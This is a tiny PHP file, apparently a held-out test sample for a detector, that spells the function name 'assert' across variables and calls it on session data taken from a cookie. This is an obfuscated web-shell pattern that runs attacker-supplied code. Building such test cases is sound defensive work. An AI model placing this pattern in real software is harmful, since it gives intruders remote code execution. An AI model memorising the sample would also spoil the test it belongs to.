<?php
// Held-out round D shape (team's own writing): the function name is spelt across variables and
// its argument is session data a companion page stored from a cookie. Inert sample.
session_start();
$first = 'as';
$second = 'se';
$worker = $first . $second . 'rt';
$worker($_SESSION['queued']);
